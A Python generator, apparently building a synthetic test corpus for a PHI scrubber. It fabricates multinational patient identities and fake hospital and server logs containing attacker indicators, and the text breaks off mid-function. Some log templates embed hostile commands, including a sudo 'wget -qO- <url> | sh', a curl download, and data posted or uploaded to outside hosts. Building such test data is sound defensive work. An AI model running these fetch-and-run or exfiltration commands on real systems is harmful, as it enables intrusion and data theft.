#!/usr/bin/env python3
"""blind12: a twelfth blind corpus for the PHI scrubber (issue 18).

Written without opening the scrubber, its results, score.py, the other generators or any
corpus's documents. 57 styles, 7 documents each: 19 machine-made logs and exports, 19 pieces of
paperwork and messages in English from outside the US, and incident notes in 19 languages no
earlier corpus used. Seed 12012; one random.Random for every draw, Faker instances seeded from
it in a fixed order.

    gen_blind12.py            writes ../blind12/blind12.jsonl and ../blind12/MANIFEST.md
    gen_blind12.py --check    rebuilds both in memory, self-tests, compares byte for byte
"""

import datetime as dt
import hashlib
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import spandoc  # noqa: E402  (re-executes with PYTHONHASHSEED=0)
from spandoc import Doc, I, X, N  # noqa: E402
import indicators as ind  # noqa: E402
import random  # noqa: E402
from faker import Faker  # noqa: E402

SEED = 12012
OUT_DIR = os.path.join(HERE, "..", "blind12")
CORPUS = os.path.join(OUT_DIR, "blind12.jsonl")
MANIFEST = os.path.join(OUT_DIR, "MANIFEST.md")
PER_STYLE = 7

R = random.Random(SEED)
FK = {}
for _loc in ["en_US", "en_GB", "en_AU", "en_CA", "en_IE", "en_IN", "en_NG"]:
    FK[_loc] = Faker(_loc)
    FK[_loc].seed_instance(R.getrandbits(32))


def ch(seq):
    return seq[R.randrange(len(seq))]


def digits(n):
    return "".join(str(R.randrange(10)) for _ in range(n))


def upper(n):
    return "".join(ch("ABCDEFGHJKLMNPRSTUVWXYZ") for _ in range(n))


def luhn_digit(s):
    tot = 0
    for i, c in enumerate(reversed(s)):
        d = int(c)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        tot += d
    return str((10 - tot % 10) % 10)


# ---------------------------------------------------------------------------------------------
# dates

BASE = dt.datetime(2025, 2, 3, 0, 0, 0)


def when(days=60):
    return BASE + dt.timedelta(days=R.randint(0, days), seconds=R.randint(0, 86399))


def dob(lo=18, hi=88):
    return dt.date(2025, 1, 1) - dt.timedelta(days=R.randint(lo * 365, hi * 365))


MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December"]


def dmy(d, sep="/"):
    return f"{d.day:02d}{sep}{d.month:02d}{sep}{d.year}"


def mdy(d):
    return f"{d.month:02d}/{d.day:02d}/{d.year}"


def long_date(d):
    return f"{d.day} {MONTHS[d.month - 1]} {d.year}"


# ---------------------------------------------------------------------------------------------
# countries: names, places, numbers in their own layouts

CITIES = {
    "US": [("Rochester", "MN"), ("Eau Claire", "WI"), ("Fresno", "CA"), ("Saint Paul", "MN"),
           ("Spokane", "WA"), ("Knoxville", "TN"), ("Wichita", "KS"), ("Toledo", "OH"),
           ("Albany", "NY"), ("Savannah", "GA"), ("Tucson", "AZ"), ("Lansing", "MI"),
           ("Fargo", "ND"), ("Sioux Falls", "SD"), ("Lubbock", "TX"), ("Macon", "GA")],
    "GB": ["Leeds", "Bristol", "Norwich", "Stockport", "Swansea", "Derby", "Exeter",
           "Sunderland", "Wolverhampton", "Inverness", "Gloucester", "Preston", "Carlisle",
           "Lincoln", "Blackburn", "Truro"],
    "CA": [("Hamilton", "ON"), ("Kingston", "ON"), ("Sudbury", "ON"), ("Halifax", "NS"),
           ("Moncton", "NB"), ("Saskatoon", "SK"), ("Kelowna", "BC"), ("Thunder Bay", "ON"),
           ("Brandon", "MB"), ("Red Deer", "AB"), ("Nanaimo", "BC"), ("Guelph", "ON")],
    "AU": [("Wollongong", "NSW", "25"), ("Geelong", "VIC", "32"), ("Toowoomba", "QLD", "43"),
           ("Ballarat", "VIC", "33"), ("Bendigo", "VIC", "35"), ("Cairns", "QLD", "48"),
           ("Launceston", "TAS", "72"), ("Bunbury", "WA", "62"), ("Dubbo", "NSW", "28"),
           ("Mackay", "QLD", "47"), ("Wagga Wagga", "NSW", "26"), ("Mildura", "VIC", "35")],
    "IE": [("Galway", "H91"), ("Limerick", "V94"), ("Waterford", "X91"), ("Sligo", "F91"),
           ("Athlone", "N37"), ("Tralee", "V92"), ("Drogheda", "A92"), ("Letterkenny", "F92"),
           ("Kilkenny", "R95"), ("Ennis", "V95"), ("Mullingar", "N91"), ("Navan", "C15")],
    "IN": ["Pune", "Nagpur", "Coimbatore", "Indore", "Lucknow", "Mysuru", "Vadodara",
           "Bhubaneswar", "Kochi", "Visakhapatnam", "Jaipur", "Madurai"],
    "NG": ["Ibadan", "Enugu", "Kaduna", "Benin City", "Abeokuta", "Jos", "Owerri", "Ilorin",
           "Calabar", "Akure", "Uyo", "Onitsha"],
    "PH": ["Davao City", "Iloilo City", "Bacolod", "Cagayan de Oro", "Baguio", "Dumaguete",
           "Tacloban", "General Santos", "Zamboanga City", "Legazpi", "Tagbilaran", "Batangas"],
    "ZA": ["Pietermaritzburg", "Bloemfontein", "Gqeberha", "Polokwane", "Mbombela",
           "Kimberley", "Rustenburg", "East London", "Mthatha", "Upington", "George",
           "Stellenbosch"],
    "SG": ["Tampines", "Jurong West", "Woodlands", "Bedok", "Hougang", "Sengkang",
           "Yishun", "Ang Mo Kio", "Bukit Batok", "Punggol", "Clementi", "Toa Payoh"],
}

PH_GIVEN = ["Maria Clara", "Jericho", "Rowena", "Jomar", "Analyn", "Rodel", "Kristine",
            "Arnel", "Lovely", "Jonel", "Marites", "Reynaldo", "Shiela", "Dindo", "Mylene",
            "Ramil", "Jocelyn", "Edgardo", "Rhea", "Bienvenido"]
PH_SUR = ["Dimaculangan", "Macaraeg", "Villanueva", "Panganiban", "Bautista", "Soriano",
          "Magbanua", "Dela Cruz", "Pangilinan", "Tolentino", "Manalastas", "Quisumbing",
          "Lacson", "Sarmiento", "Buenaventura", "Evangelista"]
ZA_GIVEN = ["Thandeka", "Sipho", "Lerato", "Kagiso", "Nomvula", "Pieter", "Annelie",
            "Mpho", "Zanele", "Bongani", "Refilwe", "Johannes", "Naledi", "Tshepo", "Riaan",
            "Palesa", "Lwazi", "Marlize"]
ZA_SUR = ["Mahlangu", "Nkosi", "van der Merwe", "Mokoena", "Botha", "Dlamini", "Khumalo",
          "Pretorius", "Mthembu", "Ndlovu", "Venter", "Motaung", "Sithole", "Coetzee",
          "Mabaso", "Radebe"]
SG_NAMES = [("Tan", "Wei Ming"), ("Lim", "Hui Min"), ("Ng", "Jun Jie"), ("Goh", "Xiu Ling"),
            ("Ong", "Kah Wai"), ("Chua", "Pei Shan"), ("Teo", "Boon Keng"),
            ("Koh", "Shu Fen")]
SG_MALAY = ["Nurul Huda binte Rahmat", "Muhammad Faizal bin Osman", "Siti Aisyah binte Kamal",
            "Hafiz bin Ismail", "Farah Nadia binte Yusof"]
SG_INDIAN = ["Priya d/o Ramasamy", "Suresh s/o Krishnan", "Kavitha d/o Murugan",
             "Ganesh s/o Pillai"]
SG_STREETS = ["Tampines Street 81", "Jurong West Street 52", "Woodlands Drive 14",
              "Bedok North Avenue 3", "Hougang Avenue 8", "Sengkang East Way",
              "Yishun Ring Road", "Ang Mo Kio Avenue 10", "Bukit Batok West Avenue 6",
              "Punggol Field", "Clementi Avenue 4", "Lorong 1 Toa Payoh"]
IN_AREAS = ["Koregaon Park", "Dharampeth", "RS Puram", "Vijay Nagar", "Gomti Nagar",
            "Kuvempunagar", "Alkapuri", "Saheed Nagar", "Kadavanthra", "MVP Colony",
            "Malviya Nagar", "Anna Nagar"]
NG_STREETS = ["Ring Road", "Ogui Road", "Ahmadu Bello Way", "Sapele Road", "Oke-Ilewo Street",
              "Rayfield Road", "Wetheral Road", "Unity Road", "Marian Road", "Oba Adesida Road",
              "Aka Road", "New Market Road"]
ZA_STREETS = ["Church Street", "Voortrekker Road", "Jan Smuts Avenue", "Nelson Mandela Drive",
              "Loop Street", "Paul Kruger Street", "Oxford Street", "Burger Street",
              "Sisulu Street", "Beyers Naude Drive"]
PH_STREETS = ["Rizal Street", "Mabini Street", "Bonifacio Avenue", "Luna Street",
              "Quezon Boulevard", "Burgos Street", "Lapu-Lapu Street", "Osmeña Boulevard"]


def person(cc):
    """A person in country cc, with that country's name, address, phone and id layouts."""
    p = {"cc": cc}
    if cc in ("US", "GB", "AU", "CA", "IE", "IN", "NG"):
        f = FK[{"US": "en_US", "GB": "en_GB", "AU": "en_AU", "CA": "en_CA", "IE": "en_IE",
                "IN": "en_IN", "NG": "en_NG"}[cc]]
        p["first"], p["last"] = f.first_name(), f.last_name()
    elif cc == "PH":
        p["first"], p["last"] = ch(PH_GIVEN), ch(PH_SUR)
    elif cc == "ZA":
        p["first"], p["last"] = ch(ZA_GIVEN), ch(ZA_SUR)
    elif cc == "SG":
        k = R.random()
        if k < 0.6:
            sur, giv = ch(SG_NAMES)
            p["first"], p["last"] = giv, sur
            p["full"] = f"{sur} {giv}"
        else:
            full = ch(SG_MALAY if k < 0.8 else SG_INDIAN)
            p["first"], p["last"] = full.split(" ")[0], full.split(" ")[-1]
            p["full"] = full
    p.setdefault("full", f"{p['first']} {p['last']}")
    p["dob"] = dob()
    num = R.randint(2, 298)
    if cc == "US":
        city, st = ch(CITIES["US"])
        p["street"] = f"{num} {FK['en_US'].street_name()}"
        p["city"], p["state"], p["zip"] = city, st, digits(5)
        p["phone"] = f"({R.randint(201, 989)}) {R.randint(200, 989)}-{digits(4)}"
        p["natid"] = f"{R.randint(101, 665):03d}-{R.randint(10, 99)}-{digits(4)}"
    elif cc == "GB":
        p["street"] = f"{num} {FK['en_GB'].street_name()}"
        p["city"] = ch(CITIES["GB"])
        p["zip"] = f"{upper(ch([1, 2]))}{R.randint(1, 29)} {R.randint(1, 9)}{upper(2)}"
        p["phone"] = ch([f"07{digits(3)} {digits(6)}", f"01{digits(3)} {digits(6)}",
                         f"+44 7{digits(3)} {digits(6)}"])
        p["natid"] = nhs_number()
        p["nino"] = f"{upper(2)} {digits(2)} {digits(2)} {digits(2)} {ch('ABCD')}"
    elif cc == "CA":
        city, prov = ch(CITIES["CA"])
        p["street"] = f"{num} {FK['en_CA'].street_name()}"
        p["city"], p["state"] = city, prov
        p["zip"] = f"{upper(1)}{R.randrange(10)}{upper(1)} {R.randrange(10)}{upper(1)}{R.randrange(10)}"
        p["phone"] = f"{R.randint(204, 905)}-{R.randint(200, 989)}-{digits(4)}"
        base = digits(8)
        p["natid"] = f"{base[:3]} {base[3:6]} {base[6:]}{luhn_digit(base + '0')}"
        p["health"] = f"{digits(4)}-{digits(3)}-{digits(3)}-{upper(2)}"
    elif cc == "AU":
        city, st, pc = ch(CITIES["AU"])
        p["street"] = f"{num} {FK['en_AU'].street_name()}"
        p["city"], p["state"], p["zip"] = city, st, pc + digits(2)
        p["phone"] = ch([f"04{digits(2)} {digits(3)} {digits(3)}",
                         f"(0{ch('2378')}) {digits(4)} {digits(4)}",
                         f"+61 4{digits(2)} {digits(3)} {digits(3)}"])
        p["health"] = f"{R.randint(2, 6)}{digits(3)} {digits(5)} {R.randint(1, 9)}"
        p["ihi"] = f"8003 60{digits(2)} {digits(4)} {digits(4)}"
    elif cc == "IE":
        city, routing = ch(CITIES["IE"])
        p["street"] = f"{num} {FK['en_IE'].street_name()}"
        p["city"] = city
        p["zip"] = f"{routing} {upper(1)}{R.randrange(10)}{upper(1)}{R.randrange(10)}"
        p["phone"] = ch([f"08{ch('3567')} {digits(3)} {digits(4)}",
                         f"+353 8{ch('3567')} {digits(3)} {digits(4)}",
                         f"0{R.randint(21, 99)} {digits(3)} {digits(4)}"])
        p["natid"] = f"{digits(7)}{upper(1)}{ch(['', 'A', 'W'])}"
        p["health"] = f"{digits(7)}{upper(1)}"
    elif cc == "IN":
        p["street"] = f"{R.randint(1, 120)}, {ch(['2nd Cross', '4th Main', 'Lane 7', 'Sector 11', 'Plot 42'])}, {ch(IN_AREAS)}"
        p["city"] = ch(CITIES["IN"])
        p["zip"] = f"{R.randint(11, 85)}{digits(4)}"
        p["phone"] = ch([f"+91 9{digits(4)} {digits(5)}", f"09{digits(3)}{digits(6)}",
                         f"9{digits(4)}-{digits(5)}"])
        p["natid"] = f"{upper(3)}P{p['last'][0].upper()}{digits(4)}{upper(1)}"
        p["health"] = f"{digits(2)}-{digits(4)}-{digits(4)}-{digits(4)}"
    elif cc == "NG":
        p["street"] = f"{num} {ch(NG_STREETS)}"
        p["city"] = ch(CITIES["NG"])
        p["zip"] = f"{R.randint(10, 99)}{digits(4)}"
        p["phone"] = ch([f"080{digits(1)} {digits(3)} {digits(4)}",
                         f"+234 80{digits(1)} {digits(3)} {digits(4)}",
                         f"070{digits(8)}"])
        p["natid"] = digits(11)
        p["health"] = f"{upper(3)}/{digits(5)}/{ch('ABCD')}"
    elif cc == "PH":
        p["street"] = f"{num} {ch(PH_STREETS)}, Brgy. {ch(['San Isidro', 'Poblacion', 'Mabolo', 'Lahug', 'Talamban', 'Bajada'])}"
        p["city"] = ch(CITIES["PH"])
        p["zip"] = f"{R.randint(1000, 9800)}"
        p["phone"] = ch([f"09{digits(2)} {digits(3)} {digits(4)}",
                         f"+63 9{digits(2)} {digits(3)} {digits(4)}"])
        p["natid"] = f"{digits(4)}-{digits(4)}-{digits(4)}-{digits(4)}"
        p["health"] = f"{digits(2)}-{digits(9)}-{digits(1)}"
    elif cc == "ZA":
        p["street"] = f"{num} {ch(ZA_STREETS)}"
        p["city"] = ch(CITIES["ZA"])
        p["zip"] = f"{R.randint(1, 9)}{digits(3)}"
        p["phone"] = ch([f"0{ch('678')}{digits(1)} {digits(3)} {digits(4)}",
                         f"+27 {ch('678')}{digits(1)} {digits(3)} {digits(4)}"])
        d = p["dob"]
        body = f"{d.year % 100:02d}{d.month:02d}{d.day:02d}{digits(4)}08"
        p["natid"] = body + luhn_digit(body + "0")
        p["health"] = digits(9)
    elif cc == "SG":
        blk = R.randint(101, 899)
        p["street"] = f"Blk {blk} {ch(SG_STREETS)} #{R.randint(2, 15):02d}-{R.randint(10, 450)}"
        p["city"] = ch(CITIES["SG"])
        p["zip"] = f"{R.randint(52, 82)}{blk:03d}{R.randrange(10)}"
        p["phone"] = ch([f"+65 {ch('89')}{digits(3)} {digits(4)}", f"{ch('89')}{digits(3)} {digits(4)}"])
        p["natid"] = nric()
    return p


def nhs_number():
    while True:
        d = [R.randrange(10) for _ in range(9)]
        s = sum(v * (10 - i) for i, v in enumerate(d))
        c = 11 - s % 11
        if c == 11:
            c = 0
        if c == 10:
            continue
        t = "".join(map(str, d)) + str(c)
        return f"{t[:3]} {t[3:6]} {t[6:]}"


def nric():
    d = [R.randrange(10) for _ in range(7)]
    w = [2, 7, 6, 5, 4, 3, 2]
    s = sum(a * b for a, b in zip(d, w))
    return "S" + "".join(map(str, d)) + "JZIHGFEDCBA"[s % 11]


def uname(p, style):
    f, l_ = ind.slug(p["first"].split(" ")[0]), ind.slug(p["last"].replace(" ", ""))
    if style == 0:
        return f"{f[0]}{l_}"[:12]
    if style == 1:
        return f"{f}.{l_}"
    if style == 2:
        return f"{l_}{f[0]}"
    return f"{l_[:5]}{f[:2]}{int(hashlib.sha256((f + l_).encode()).hexdigest(), 16) % 9 + 1}"


# ---------------------------------------------------------------------------------------------
# organizations

KINDS_US = ["Medical Center", "Regional Hospital", "Health System", "Community Hospital",
            "Family Clinic", "Children's Hospital", "Memorial Hospital"]
PREFIX_US = ["Red Cedar", "Prairie Hills", "Blue Heron", "Ironwood", "Sandstone", "Lakeshore",
             "Twin Rivers", "North Fork", "Clearwater", "Stonebridge", "Elm Valley", "Willow Creek"]


class Org:
    def __init__(self, cc):
        self.cc = cc
        if cc == "US":
            self.name = f"{ch(PREFIX_US)} {ch(KINDS_US)}"
            tld = ch(["org", "org", "com"])
        elif cc == "GB":
            town = ch(CITIES["GB"])
            self.name = ch([f"{town} Teaching Hospitals NHS Foundation Trust",
                            f"{town} and District General Hospital",
                            f"{town} Community Health Partnership"])
            tld = "nhs.uk"
        elif cc == "CA":
            town = ch(CITIES["CA"])[0]
            self.name = ch([f"{town} General Hospital", f"{town} Regional Health Centre"])
            tld = "ca"
        elif cc == "AU":
            town = ch(CITIES["AU"])[0]
            self.name = ch([f"{town} Base Hospital", f"{town} Health Service"])
            tld = "org.au"
        elif cc == "IE":
            town = ch(CITIES["IE"])[0]
            self.name = ch([f"University Hospital {town}", f"{town} Regional Hospital"])
            tld = "ie"
        elif cc == "IN":
            town = ch(CITIES["IN"])
            self.name = ch([f"{town} Multispeciality Hospital", f"Sanjeevani Hospital {town}",
                            f"{town} Institute of Medical Sciences"])
            tld = "in"
        elif cc == "NG":
            town = ch(CITIES["NG"])
            self.name = ch([f"{town} Specialist Hospital", f"Federal Medical Centre {town}"])
            tld = "com.ng"
        elif cc == "PH":
            town = ch(CITIES["PH"])
            self.name = ch([f"{town} Doctors' Hospital", f"{town} Medical Center"])
            tld = "com.ph"
        elif cc == "ZA":
            town = ch(CITIES["ZA"])
            self.name = ch([f"{town} Mediclinic", f"{town} Private Hospital"])
            tld = "co.za"
        elif cc == "SG":
            self.name = ch(["Eastpoint General Hospital", "Kallang Community Hospital",
                            "Straits Polyclinic", "Serangoon Medical Centre"])
            tld = "com.sg"
        else:
            self.name = cc  # set by the caller
            tld = "org"
        words = re.findall(r"[A-Za-z]+", ind.ascii_fold(self.name))
        self.short = "".join(w[0] for w in words if w[0].isupper()).upper()
        if len(self.short) < 3:
            self.short = (self.short + ind.slug(words[0]).upper())[:4]
        self.domain = f"{ind.slug(words[0])}{self.short.lower()[:3]}.{tld}"
        self.ustyle = R.randrange(4)
        self.host_pre = ch([self.short, self.short + "-", "WS", "PC", "CLIN"])

    def doc_org(self):
        return {"name": self.name, "domains": [self.domain]}

    def host(self):
        return f"{self.host_pre}{ch(['', 'WS', 'NUR', 'ED', 'LAB', 'RAD'])}{digits(4)}".replace("--", "-")

    def fqdn(self, h=None):
        return f"{(h or self.host()).lower()}.{self.domain}"

    def email(self, p):
        return f"{uname(p, 1)}@{self.domain}"

    def user(self, p):
        return uname(p, self.ustyle)

    def priv(self):
        return ind.private_ipv4(R)


# ---------------------------------------------------------------------------------------------
# indicator helpers

ACTORS = ["Scattered Spider", "FIN12", "TA505", "Storm-0501", "UNC3944", "Vanilla Tempest",
          "Octo Tempest", "Velvet Ant", "Wizard Spider", "Gold Harvest", "Luna Moth",
          "Silent Ransom Group", "Cadet Blizzard", "Vice Spider"]
BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def wallet():
    k = R.random()
    if k < 0.5:
        return "bc1q" + "".join(ch(BECH) for _ in range(38))
    if k < 0.8:
        return "0x" + ind.hexstr(R, 40)
    return "4" + "".join(ch("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))


def remote_id():
    k = R.random()
    if k < 0.5:
        d = digits(9)
        return f"{R.randint(1, 9)} {d[:3]} {d[3:6]} {d[6:]}"
    return f"{R.randint(1, 9)}{digits(2)} {digits(3)} {digits(3)}"


def ipx():
    return X(ind.public_ipv4(R), "IPV4")


def dom():
    return X(ind.domain(R), "DOMAIN")


def urlx():
    return X(ind.url(R), "URL")


def malw():
    return X(ch(ind.MALWARE + ind.RANSOM), "MALWARE")


def sha():
    return X(ind.sha256(R).lower(), "SHA256")


def aemail(free=True):
    return X(ind.attacker_email(R, free), "EMAIL_ATTACKER")


def aphone(cc):
    return X(person(cc)["phone"], "PHONE_ATTACKER")


def ts_iso(t, z=True):
    return t.strftime("%Y-%m-%dT%H:%M:%S") + (f".{R.randint(0, 999):03d}Z" if z else "")


# ---------------------------------------------------------------------------------------------
# self-test


def self_test(rec, doc):
    text = rec["text"]
    spans = sorted(rec["identifiers"] + rec["indicators"] + rec.get("neutral", []),
                   key=lambda s: (s["start"], s["end"]))
    prev = 0
    for s in spans:
        assert 0 <= s["start"] < s["end"] <= len(text), (rec["id"], s)
        assert s["start"] >= prev, (rec["id"], "overlap", s)
        prev = s["end"]
    pos = 0
    k = 0
    for seg, cat, typ in doc.seg:
        if cat in (spandoc.ID, spandoc.IND, spandoc.NEU):
            assert text[pos:pos + len(seg)] == seg
            k += 1
        pos += len(seg)
    assert k == len(spans) and pos == len(text)
    covered = [False] * (len(text) + 1)
    for s in spans:
        for i in range(s["start"], s["end"]):
            covered[i] = True
    needles = {rec["org"]["name"]} if rec.get("org") else set()
    for s in rec["identifiers"]:
        frag = text[s["start"]:s["end"]]
        if len(frag) >= 4:
            needles.add(frag)
        if s["type"] == "NAME":
            for part in re.findall(r"[^\W\d_]+", frag):
                if len(part) >= 4:
                    needles.add(part)
    for nd in sorted(needles):
        for m in re.finditer(r"(?<!\w)" + re.escape(nd) + r"(?!\w)", text, re.IGNORECASE):
            if not all(covered[i] for i in range(m.start(), m.end())):
                return f"{nd!r} at {m.start()} outside a span"
    return None


# ---------------------------------------------------------------------------------------------
# machine-made styles (US organizations)


def s_corepoint(o, d):
    pts = [person("US") for _ in range(R.randint(3, 5))]
    d.t(f"Corepoint Integration Engine - Activity Log - connection ")
    d.put(I(f"{o.short}_ADT_OUT", "ORG")).t("\n")
    for p in pts:
        t = when()
        mid = digits(10)
        d.put(N(t.strftime("%m/%d/%Y %I:%M:%S %p"), "LOGTIME")).t(f"  INFO   MsgCtrlID={mid} Event=A08 ")
        d.t("Patient=").put(I(f"{p['last'].upper()}^{p['first'].upper()}", "NAME")).t(" MRN=")
        p["mrn"] = "M" + digits(7)
        d.put(I(p["mrn"], "MRN")).t(" DOB=").put(I(p["dob"].strftime("%Y%m%d"), "DATE"))
        d.t(" Route=ADT_to_LAB Status=Delivered\n")
    t = when()
    bad = ch(pts)
    d.put(N(t.strftime("%m/%d/%Y %I:%M:%S %p"), "LOGTIME")).t("  ERROR  Outbound connection refused by ")
    d.put(ipx()).t(":2575; route added by user ")
    st = person("US")
    d.put(I(o.user(st), "USERNAME")).t(" from ").put(I(o.host(), "HOSTNAME")).t(" (")
    d.put(I(o.priv(), "IP")).t(")\n")
    d.put(N(when().strftime("%m/%d/%Y %I:%M:%S %p"), "LOGTIME")).t("  WARN   Queued message for ")
    d.put(I(bad["last"].upper() + "^" + bad["first"].upper(), "NAME")).t(" (PID-11 ")
    d.put(I(bad["street"], "ADDRESS")).t("^^").put(I(bad["city"], "CITY")).t("^" + bad["state"] + "^")
    d.put(I(bad["zip"], "ZIP")).t(") copied to unexpected LLP target ").put(dom()).t("\n")


def s_iguana(o, d):
    ch_name = ch(["ADT_Inbound", "Lab_Results_Out", "Rad_Orders", "Pharmacy_Feed"])
    d.t(f"Iguana log export  channel: {ch_name}  server: ").put(I(o.fqdn(), "HOSTNAME")).t("\n")
    d.t("Time | Type | Message\n")
    for _ in range(R.randint(3, 5)):
        p = person("US")
        t = when()
        d.put(N(t.strftime("%Y/%m/%d %H:%M:%S"), "LOGTIME")).t(" | Info | Processed ORU^R01 for ")
        d.put(I(f"{p['last']}, {p['first']}", "NAME")).t(" acct ")
        d.put(I(digits(9), "ACCOUNT")).t(" ordering ").put(I("Dr " + person("US")["last"], "NAME")).t("\n")
    d.put(N(when().strftime("%Y/%m/%d %H:%M:%S"), "LOGTIME")).t(" | Error | Lua: script changed by ")
    st = person("US")
    d.put(I(o.user(st), "USERNAME")).t("; net.http.post to ").put(urlx()).t(" returned 200 (payload 1.2 MB)\n")
    d.put(N(when().strftime("%Y/%m/%d %H:%M:%S"), "LOGTIME")).t(" | Warning | web login ")
    d.put(I(o.user(st), "USERNAME")).t(" from ").put(ipx()).t(" (failed 14 times before)\n")


def s_healthshare(o, d):
    d.t("InterSystems HealthShare - Event Log\nNamespace: HSREGISTRY   Instance: ")
    d.put(I(o.host().upper(), "HOSTNAME")).t("\n\n")
    for _ in range(R.randint(3, 5)):
        p, st = person("US"), person("US")
        d.t("ID: " + digits(6) + "  Time: ").put(N(ts_iso(when(), False), "LOGTIME"))
        d.t("  Event: %HSAccess/ViewPatient\n  User: ").put(I(o.user(st), "USERNAME"))
        d.t("  Roles: %HS_Clinician  Client: ").put(I(o.priv(), "IP")).t("\n  Description: Viewed record MPIID ")
        d.put(I(digits(8), "MRN")).t(" (").put(I(p["full"], "NAME")).t(", DOB ")
        d.put(I(mdy(p["dob"]), "DATE")).t(")\n\n")
    d.t("ID: " + digits(6) + "  Time: ").put(N(ts_iso(when(), False), "LOGTIME"))
    d.t("  Event: %System/%Login/LoginFailure\n  User: _SYSTEM  Client: ").put(ipx())
    d.t("\n  Description: Access denied; client matches ").put(X(ch(ACTORS), "ACTOR")).t(" infrastructure\n")


def s_qvera(o, d):
    d.t("Qvera Interface Engine - Channel Error Report\nZone: ").put(I(o.name, "ORG")).t(" / Production\n\n")
    for _ in range(R.randint(2, 4)):
        p = person("US")
        d.t("[").put(N(when().strftime("%Y-%m-%d %H:%M:%S,") + digits(3), "LOGTIME")).t("] ERROR node 'Map PID': ")
        d.t("qie.hl7 PID|1||").put(I(digits(8), "MRN")).t("^^^").put(I(o.short, "ORG")).t("||")
        d.put(I(f"{p['last'].upper()}^{p['first'].upper()}", "NAME")).t("||").put(I(p["dob"].strftime("%Y%m%d"), "DATE"))
        d.t("|F|||").put(I(p["street"], "ADDRESS")).t("^^").put(I(p["city"], "CITY")).t("^" + p["state"] + "^")
        d.put(I(p["zip"], "ZIP")).t("||").put(I(p["phone"], "PHONE")).t(" : field PID-19 empty\n")
    d.t("[").put(N(when().strftime("%Y-%m-%d %H:%M:%S,") + digits(3), "LOGTIME")).t("] WARN  SFTP destination edited: host ")
    d.put(ipx()).t(" user upload_tmp\n")


def s_auditd_raw(o, d):
    host = o.host().lower()
    d.t("# /var/log/audit/audit.log on ").put(I(host, "HOSTNAME")).t("\n")
    st = person("US")
    u = o.user(st)
    uid = R.randint(1001, 1999)
    for _ in range(R.randint(3, 5)):
        ser = R.randint(1000, 99999)
        tt = f"{int(when().timestamp())}.{R.randint(100, 999)}:{ser}"
        d.t(f"type=USER_LOGIN msg=audit({tt}): pid={R.randint(900, 60000)} uid=0 auid={uid} ses={R.randint(1, 90)} ")
        d.t("msg='op=login acct=\"").put(I(u, "USERNAME")).t("\" exe=\"/usr/sbin/sshd\" hostname=? addr=")
        if R.random() < 0.5:
            d.put(I(o.priv(), "IP"))
        else:
            d.put(ipx())
        d.t(" terminal=ssh res=success'\n")
    tt = f"{int(when().timestamp())}.{R.randint(100, 999)}:{R.randint(1000, 99999)}"
    p = person("US")
    d.t(f"type=EXECVE msg=audit({tt}): argc=3 a0=\"curl\" a1=\"-o\" a2=\"").put(urlx()).t("\"\n")
    d.t(f"type=PATH msg=audit({tt}): item=0 name=\"/srv/exports/chart_").put(I(digits(8), "MRN")).t(".pdf\" inode=" + digits(7) + " ouid=" + str(uid) + "\n")


def s_sudo(o, d):
    host = o.host().lower()
    st, st2 = person("US"), person("US")
    for _ in range(R.randint(3, 5)):
        t = when()
        who = ch([st, st2])
        d.put(N(t.strftime("%b %d %H:%M:%S"), "LOGTIME")).t(" ").put(I(host, "HOSTNAME")).t(" sudo[" + str(R.randint(1000, 90000)) + "]: ")
        d.put(I(o.user(who), "USERNAME")).t(" : TTY=pts/" + str(R.randint(0, 4)) + " ; PWD=/home/")
        d.put(I(o.user(who), "USERNAME")).t(" ; USER=root ; COMMAND=")
        d.t(ch(["/usr/bin/systemctl restart mirth", "/usr/bin/tail -f /var/log/messages",
                "/usr/bin/journalctl -u httpd", "/usr/bin/yum update"])).t("\n")
    t = when()
    d.put(N(t.strftime("%b %d %H:%M:%S"), "LOGTIME")).t(" ").put(I(host, "HOSTNAME")).t(" sudo[" + str(R.randint(1000, 90000)) + "]: ")
    d.put(I(o.user(st), "USERNAME")).t(" : TTY=pts/9 ; PWD=/dev/shm ; USER=root ; COMMAND=/bin/bash -c wget -qO- ")
    d.put(urlx()).t(" | sh\n")
    d.put(N(when().strftime("%b %d %H:%M:%S"), "LOGTIME")).t(" ").put(I(host, "HOSTNAME")).t(" sshd[" + str(R.randint(1000, 90000)) + "]: Accepted password for ")
    d.put(I(o.user(st), "USERNAME")).t(" from ").put(ipx()).t(" port " + str(R.randint(30000, 65000)) + " ssh2\n")


def s_horizon(o, d):
    d.t("VMware Horizon Connection Server events (export)\nTime,Severity,Module,Message\n")
    for _ in range(R.randint(3, 5)):
        st = person("US")
        d.put(N(when().strftime("%m/%d/%Y %H:%M"), "LOGTIME")).t(",INFO,Broker,\"User ")
        d.put(I(o.short.upper(), "HOSTNAME")).t("\\").put(I(o.user(st), "USERNAME")).t(" has logged in to a new session on machine ")
        d.put(I(o.host(), "HOSTNAME")).t("; client ")
        if R.random() < 0.4:
            d.put(I(ind.public_ipv4(R), "IP")).t(" (home)")
        else:
            d.put(I(o.priv(), "IP"))
        d.t("\"\n")
    st = person("US")
    d.put(N(when().strftime("%m/%d/%Y %H:%M"), "LOGTIME")).t(",WARNING,Broker,\"User ")
    d.put(I(o.short.upper(), "HOSTNAME")).t("\\").put(I(o.user(st), "USERNAME")).t(" authenticated via RADIUS from ")
    d.put(ipx()).t(" (").put(N(ch(["Bucharest", "Lagos", "Amsterdam", "Sofia"]), "GEO")).t("); MFA push approved\"\n")


def s_macos(o, d):
    st = person("US")
    host = f"{st['first'].split(' ')[0]}s-MacBook-Pro"
    d.t("# collected from ").put(I(host, "HOSTNAME")).t(", serial ").put(I("C02" + upper(2) + digits(2) + upper(2) + digits(1) + upper(2), "DEVICE_SERIAL")).t("\n")
    d.t("log show --predicate 'process == \"sshd\" OR subsystem == \"com.apple.xprotect\"' --last 2d\n")
    d.t("Timestamp                       Thread     Type        Activity  PID    TTL\n")
    for _ in range(R.randint(2, 4)):
        d.put(N(when().strftime("%Y-%m-%d %H:%M:%S.") + digits(6) + "-0600", "LOGTIME")).t(f" 0x{ind.hexstr(R, 6)}   Default     0x0   {R.randint(100, 9999)}   0    ")
        d.t("loginwindow: [com.apple.login] user ").put(I(o.user(st), "USERNAME")).t(" (").put(I(st["full"], "NAME"))
